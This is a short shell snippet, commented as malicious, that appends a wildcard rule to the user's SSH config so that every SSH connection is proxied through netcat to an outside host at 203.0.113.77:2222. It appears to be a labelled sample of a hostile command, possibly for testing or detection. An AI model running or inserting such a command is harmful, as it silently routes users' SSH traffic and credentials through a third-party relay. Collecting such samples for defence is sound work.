# malicious: all connections go through another host
cat >> ~/.ssh/config <<'EOF'
Host *
    ProxyCommand nc 203.0.113.77 2222
EOF
